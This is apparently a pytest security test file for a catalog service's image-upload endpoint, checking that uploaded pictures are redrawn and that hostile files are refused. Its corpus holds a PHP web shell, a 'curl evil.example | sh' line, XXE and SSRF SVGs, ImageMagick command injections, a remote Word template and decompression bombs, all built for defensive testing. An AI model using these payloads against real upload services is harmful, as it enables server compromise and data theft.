import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image

from libs.kit.http.picture_store import picture_store_of
from libs.kit.media.pictures import MAX_BYTES
from libs.kit.testing import Service, signed_in
from libs.kit.tests.makers import (
    ACCEPTED_IMAGES,
    REFUSED,
    SCRIPT,
    TOO_LARGE,
    chunk,
    claimed_gif,
    claimed_png,
    image_bytes,
    with_zip_behind,
)
from services.catalog.pictures.link_rules import product_of_file
from services.catalog.tests.makers import NAMES, peak
from services.catalog.tests.pictures import a_picture

pytestmark = pytest.mark.servers


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


ENGINE = b"<?php system($_GET['c']); ?>"


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def nest(depth: int = 5) -> bytes:
    inner = zipped(bomb=b"\0" * 1_000_000)
    for _ in range(depth):
        inner = zipped(**{f"n{number}.zip": inner for number in range(6)})
    return inner


def document(**more: bytes) -> bytes:
    return zipped(**{"[Content_Types].xml": b"<Types/>", "word__document.xml": b"<w/>"} | more)


def many_frames(count: int) -> bytes:
    plain = image_bytes("GIF", "P", (8, 8))
    start = 13 + 3 * 2 ** ((plain[10] & 7) + 1)
    return plain[:start] + plain[start:-1] * count + b";"


def webp_with(kind: bytes, content: bytes) -> bytes:
    plain = image_bytes("WEBP")
    body = plain[12:] + kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)
    flags = bytes([{b"EXIF": 8, b"XMP ": 4, b"ICCP": 32}[kind], 0, 0, 0])
    size = (600 - 1).to_bytes(3, "little") + (400 - 1).to_bytes(3, "little")
    body = b"VP8X" + struct.pack("<I", 10) + flags + size + body
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def claimed_webp(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + size
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def claimed_jpeg(width: int, height: int) -> bytes:
    plain = image_bytes("JPEG", size=(16, 16))
    at = plain.index(b"\xff\xc0")
    return plain[: at + 5] + struct.pack(">HH", height, width) + plain[at + 9 :]


def segment(marker: bytes, content: bytes) -> bytes:
    plain = image_bytes("JPEG")
    return plain[:2] + marker + struct.pack(">H", len(content) + 2) + content + plain[2:]


def between(kind: bytes, content: bytes) -> bytes:
    plain = image_bytes("PNG")
    return plain[:33] + chunk(kind, content) + plain[33:]


def interlaced_flood() -> bytes:
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 16, 6, 0, 0, 1)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 9999))
        + chunk(b"IEND", b"")
    )


def much_of_nothing(megabytes: int) -> bytes:
    press = zlib.compressobj(9)
    return b"".join([*(press.compress(bytes(1_000_000)) for _ in range(megabytes)), press.flush()])


def broken_check() -> bytes:
    plain = bytearray(image_bytes("PNG"))
    plain[40] ^= 0xFF
    return bytes(plain)


CLEAN: dict[str, Callable[[], bytes]] = ACCEPTED_IMAGES | {
    "a program behind a png": lambda: image_bytes("PNG") + b"\x7fELF" + ENGINE,
    "php behind a jpeg": lambda: image_bytes("JPEG") + ENGINE,
    "php in a jpeg's comment": lambda: segment(b"\xff\xfe", ENGINE),
    "html in a jpeg's comment": lambda: segment(b"\xff\xfe", b"<html><script>alert(1)</script>"),
    "xmp in a jpeg": lambda: segment(
        b"\xff\xe1", b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"
    ),
    "a broken profile in a jpeg": lambda: segment(b"\xff\xe2", b"ICC_PROFILE\0\1\1" + b"\xff" * 3000),
    "a jar behind a gif (GIFAR)": lambda: with_zip_behind("GIF"),
    "script in a gif's comment": lambda: image_bytes("GIF", "P", comment=SCRIPT),
    "a virus test behind a png": lambda: image_bytes("PNG") + EICAR,
    "script words in a png": lambda: between(b"tEXt", b"Comment\0" + SCRIPT),
    "php words in a png": lambda: between(b"tEXt", b"Software\0" + ENGINE),
    "a chunk of nobody's in a png": lambda: between(b"hAcK", SCRIPT),
    "exif in a png": lambda: between(b"eXIf", b"MM\0*\0\0\0\x08\0\0"),
    "exif in a webp": lambda: webp_with(b"EXIF", b"Exif\0\0MM\0*secret camera"),
    "xmp in a webp": lambda: webp_with(b"XMP ", b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"),
    "a pdf behind a png": lambda: image_bytes("PNG") + b"%PDF-1.7 /OpenAction /JS (app.alert(1))",
    "ten thousand frames": lambda: many_frames(10_000),
    "very wide and one line high": lambda: image_bytes("PNG", size=(65_000, 1)),
    "very high and one dot wide": lambda: image_bytes("PNG", size=(1, 65_000)),
}


FOREIGN: dict[str, Callable[[], bytes]] = REFUSED | {
    "svgz": lambda: gzip.compress(SCRIPT),
    "svg that names a file": lambda: b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "svg that calls elsewhere": lambda: b'<svg><image href="http://169.254.169.254/"/></svg>',
    "pdf with a script": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "document with a macro": lambda: document(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"),
    "document with an outer template": lambda: document(word___rels__settings=b'Target="http://evil.example/t.dotm"'),
    "document that is a bomb": lambda: document(word__media=b"\0" * 20_000_000),
    "zips in zips": nest,
    "a virus test": lambda: EICAR,
    "php": lambda: ENGINE,
    "a shell script": lambda: b"#!/bin/sh\ncurl evil.example | sh\n",
    "postscript for a program": lambda: b"%!PS-Adobe-3.0\n(%pipe%id) (w) file",
    "mvg": lambda: b"push graphic-context\nfill 'url(https://evil.example/x.jpg\"|id\")'",
    "wmf": lambda: b"\xd7\xcd\xc6\x9a" + b"\0" * 60,
    "psd": lambda: b"8BPS\0\1" + b"\0" * 60,
    "heic": lambda: b"\0\0\0\x18ftypheic" + b"\0" * 60,
    "avif": lambda: b"\0\0\0\x18ftypavif" + b"\0" * 60,
    "jpeg 2000": lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 60,
    "mp4": lambda: b"\0\0\0\x18ftypmp42" + b"\0" * 60,
    "a png with a wrong sum": broken_check,
    "a jpeg without an end or a picture": lambda: b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\xff" * 500,
    "a jpeg of markers only": lambda: b"\xff\xd8" + b"\xff\xe1\0\x02" * 60_000,
    "a gif without a frame": lambda: b"GIF89a\1\0\1\0\0\0\0;",
    "a gif of a broken code": lambda: claimed_gif(20, 20)[:-4] + b"\xff\xff\xff\0;",
    "a webp that claims more than it has": lambda: b"RIFF\xff\xff\xff\x7fWEBPVP8L\xff\xff\xff\x7f/",
    "five megabytes of nothing": lambda: b"\0" * MAX_BYTES,
    "five megabytes behind a png start": lambda: b"\x89PNG\r\n\x1a\n" + b"\xff" * (MAX_BYTES - 8),
}  # fmt: skip


FLOODS: dict[str, Callable[[], bytes]] = TOO_LARGE | {
    "an interlaced flood": interlaced_flood,
    "a png of a negative height": lambda: claimed_png(5, 2**32 - 1),
    "a jpeg flood": lambda: claimed_jpeg(65_500, 65_500),
}


EITHER: dict[str, Callable[[], bytes]] = {
    "a webp flood": lambda: claimed_webp(16_383, 16_383),
    "a profile that unpacks to 400 MB": lambda: between(b"iCCP", b"k\0\0" + much_of_nothing(400)),
    "words that unpack to 400 MB": lambda: between(b"zTXt", b"k\0\0" + much_of_nothing(400)),
}


def test_upload_corpus_is_large_enough() -> None:
    """S15"""
    assert len(CLEAN | FOREIGN | FLOODS | EITHER) >= 100
    assert len(NAMES) >= 15


async def send(
    catalog: Service, seller: int, content: bytes, name: str = "a.png", mime: str = "image/png"
) -> Any:
    files = {"image": (name, content, mime)}
    return await catalog.http.post("/api/product-images/uploads", files=files, headers=signed_in(seller))


@pytest.mark.quiet  # A worker has five seconds.
@pytest.mark.parametrize("kind", CLEAN)
async def test_only_pixels_are_kept(catalog: Service, kind: str) -> None:
    """S15, M10, P-G3, IMG-06"""
    answer = await send(catalog, 75_000 + list(CLEAN).index(kind), CLEAN[kind]())
    assert answer.status_code == 201, answer.text
    for size in answer.json()["sizes"]:
        served = await catalog.http.get(f"{answer.json()['imageUrl']}-{size}")
        assert served.headers["content-type"] == "image/webp"
        with Image.open(io.BytesIO(served.content)) as seen:
            seen.load()
            assert (seen.format, getattr(seen, "n_frames", 1)) == ("WEBP", 1)
            assert max(seen.size) <= size
            assert not {"exif", "xmp", "icc_profile", "comment"} & seen.info.keys()
        declared = struct.unpack("<I", served.content[4:8])[0]
        assert declared + 8 == len(served.content), "bytes behind the picture"
        for foreign in (
            b"script",
            b"svg",
            b"php",
            b"PK\x03\x04",
            b"%PDF",
            b"EICAR",
            b"camera",
            b"EXIF",
            b"XMP ",
            b"ELF",
        ):
            assert foreign not in served.content


@pytest.mark.parametrize("kind", FOREIGN)
async def test_non_picture_is_refused_and_not_stored(catalog: Service, kind: str) -> None:
    """S15, P-G3, IMG-08"""
    for name, mime in (("a.png", "image/png"), ("a.jpg", "image/jpeg")):
        answer = await send(catalog, 74_001, FOREIGN[kind](), name, mime)
        assert (answer.status_code, answer.json()["code"]) == (422, "invalid_image")
        assert answer.json()["message"] == "Invalid file type"
    assert not await catalog.rows("SELECT 1 FROM pictures WHERE seller_id = 74001")


@pytest.mark.parametrize("kind", FLOODS)
async def test_oversized_image_header_is_refused(catalog: Service, kind: str) -> None:
    """S15, M10"""
    answer = await send(catalog, 74_001, FLOODS[kind]())
    assert (answer.status_code, answer.json()["message"]) == (413, "File too large")


@pytest.mark.parametrize("kind", EITHER)
async def test_decompression_bomb_ends_only_its_process(catalog: Service, kind: str) -> None:
    """S15, M10"""
    content = EITHER[kind]()
    before = peak()
    answer = await send(catalog, 74_002, content)
    assert answer.status_code in (201, 413, 422)
    assert peak() - before < 64 * 1024, "our own process grew"
    assert (await send(catalog, 74_003, a_picture())).status_code == 201


async def test_store_holds_only_redrawn_pictures(catalog: Service) -> None:
    """S15"""
    store = picture_store_of(catalog.app)
    async for page in store.pages():
        for name, _ in page:
            content = await store.get(name)
            assert content is not None
            if product_of_file(name) is not None:
                assert content[:3] == b"\xff\xd8\xff"
                continue
            assert name.endswith(".webp")
            if len(name) > 64:
                assert content[:4] == b"RIFF"
